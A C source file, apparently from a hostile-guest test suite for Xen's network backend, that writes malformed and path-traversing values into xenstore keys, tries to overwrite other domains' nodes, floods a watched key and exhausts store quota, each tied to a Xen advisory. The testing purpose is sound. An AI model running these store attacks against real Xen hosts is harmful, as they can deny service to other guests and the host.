// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Attacks by way of the store, with the guest's own permissions. See hostile.h.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "netback/netfront/hostile.h"
#include "netback/netfront/hostile_ring.h"

#define NODES_MAX 5000u
#define KEY_MAX 400

struct lie {
	const char *key;
	const char *value;
};

static const struct lie lies[] = {
	{"backend", "/local/domain/0/backend/vif/1/0"},
	{"backend", "/local/domain/0/backend/vif/../../../1"},
	{"backend", "/"},
	{"backend-id", "1"},
	{"backend-id", "32752"},
	{"frontend", "/local/domain/1/device/vif/0"},
	{"frontend-id", "1"},
	{"handle", "99"},
	{"mac", "00:16:3e:00:00:0a"},
	{"mac", "ff:ff:ff:ff:ff:ff"},
	{"script", "/bin/false"},
	{"bridge", "nowhere"},
	{"vifname", "eth0"},
	{"hotplug-status", "error"},
	{"online", "0"},
	{"rate", "1,1"},
	{"mtu", "68"},
	{"tx-ring-ref", "-1"},
	{"rx-ring-ref", "99999999999999999999"},
	{"event-channel-tx", "\x1b[31m"},
	{"multi-queue-num-queues", "4294967295"},
	{"request-multicast-control", "2 or 3"},
	{"queue-0/tx-ring-ref", "9"},
};

#define LIES (sizeof(lies) / sizeof(lies[0]))

/* What the keys were, to be put back. */
struct truth {
	char value[LIES][XNF_STORE_VALUE_MAX];
	bool there[LIES];
};

static void keep_truth(struct xnf_hostile *one, struct truth *truth)
{
	char path[KEY_MAX];

	for (size_t i = 0; i < LIES; i++) {
		(void)snprintf(path, sizeof(path), "%s/%s", one->path,
			       lies[i].key);
		truth->there[i] = xnf_store_read(one->store, XBT_NULL, path,
						 truth->value[i],
						 XNF_STORE_VALUE_MAX) >= 0;
	}
}

static void tell_truth(struct xnf_hostile *one, const struct truth *truth)
{
	char path[KEY_MAX];

	for (size_t i = 0; i < LIES; i++) {
		(void)snprintf(path, sizeof(path), "%s/%s", one->path,
			       lies[i].key);
		if (truth->there[i])
			(void)xnf_store_write(one->store, XBT_NULL, path,
					      truth->value[i]);
		else
			(void)xnf_store_remove(one->store, XBT_NULL, path);
	}
}

/* What is not ours. A store that lets us is not the backend's fault. */
static uint64_t write_others(struct xnf_hostile *one,
			     struct xnf_store_ring *ring, uint64_t *ret_allowed)
{
	static const char *const keys[] = {"frontend", "frontend-id", "script",
					   "state",    "mac",	      "online"};
	char path[KEY_MAX];
	uint64_t refused = 0;

	*ret_allowed = 0;
	for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
		int rc;

		(void)snprintf(path, sizeof(path), "%s/%s", one->backend_path,
			       keys[i]);
		rc = xnf_store_ring_write(ring, path, "6");
		refused += rc == -EACCES;
		*ret_allowed += rc == 0;
		(void)snprintf(path, sizeof(path),
			       "/local/domain/%u/device/vif/0/%s",
			       one->options.domid == 1 ? 2u : 1u, keys[i]);
		rc = xnf_store_ring_write(ring, path, "6");
		refused += rc == -EACCES;
		*ret_allowed += rc == 0;
	}
	return refused;
}

static int store_nodes(struct xnf_hostile *one, struct xn_err *err)
{
	struct xnf_store_ring *ring =
		xnf_store_ring_open(one->options.domid, err);
	uint64_t written = 0, tried = 0, refused, allowed;
	struct truth truth = {0};
	char path[KEY_MAX];

	if (!ring)
		return -EIO;
	keep_truth(one, &truth);
	for (uint64_t i = 0; i < xnf_hostile_count(one); i++) {
		for (size_t l = 0; l < LIES; l++) {
			(void)snprintf(path, sizeof(path), "%s/%s", one->path,
				       lies[l].key);
			written += !xnf_store_ring_write(ring, path,
							 lies[l].value);
			tried++;
		}
	}
	refused = write_others(one, ring, &allowed);
	tell_truth(one, &truth);
	xnf_store_ring_close(ring);
	xnf_report(one, "lies", tried);
	xnf_report(one, "lies_written", written);
	xnf_report(one, "others_refused", refused);
	xnf_report(one, "others_written", allowed);
	return 0;
}

/* `state` is what every backend watches. */
static int watch_storm(struct xnf_hostile *one, struct xn_err *err)
{
	struct xnf_store_ring *ring =
		xnf_store_ring_open(one->options.domid, err);
	char path[KEY_MAX];

	if (!ring)
		return -EIO;
	(void)snprintf(path, sizeof(path), "%s/state", one->path);
	xnf_report(one, "writes",
		   xnf_store_ring_rewrite(ring, path, "4",
					  xnf_hostile_count(one),
					  one->options.run_ms));
	xnf_store_ring_close(ring);
	return 0;
}

/* Nodes and watches until the store refuses more. */
static int store_quota(struct xnf_hostile *one, struct xn_err *err)
{
	struct xnf_store_ring *ring =
		xnf_store_ring_open(one->options.domid, err);
	char folder[XNF_STORE_PATH_MAX + 8], path[KEY_MAX], token[16];
	uint32_t nodes, watches;

	if (!ring)
		return -EIO;
	(void)snprintf(folder, sizeof(folder), "%s/junk", one->path);
	for (nodes = 0; nodes < NODES_MAX; nodes++) {
		(void)snprintf(path, sizeof(path), "%s/%u", folder, nodes);
		if (xnf_store_ring_write(ring, path, "junk"))
			break;
	}
	for (watches = 0; watches < NODES_MAX; watches++) {
		(void)snprintf(token, sizeof(token), "%u", watches);
		if (xnf_store_ring_watch(ring, one->path, token))
			break;
	}
	for (uint32_t i = 0; i < watches; i++) {
		(void)snprintf(token, sizeof(token), "%u", i);
		(void)xnf_store_ring_unwatch(ring, one->path, token);
	}
	(void)xnf_store_ring_remove(ring, folder);
	xnf_store_ring_close(ring);
	xnf_report(one, "nodes", nodes);
	xnf_report(one, "watches", watches);
	return 0;
}

const struct xnf_attack xnf_attacks_store[] = {
	{.name = "store-nodes",
	 .advisory = "XSA-175",
	 .what = "rewrites its nodes, and tries others'",
	 .run = store_nodes,
	 .count = 5},
	{.name = "watch-storm",
	 .advisory = "XSA-349",
	 .what = "rewrites a watched key without end",
	 .run = watch_storm,
	 .count = 1000000,
	 .floods = true},
	{.name = "store-quota",
	 .advisory = "XSA-115",
	 .what = "nodes and watches until the store refuses",
	 .run = store_quota},
	{.name = NULL},
};
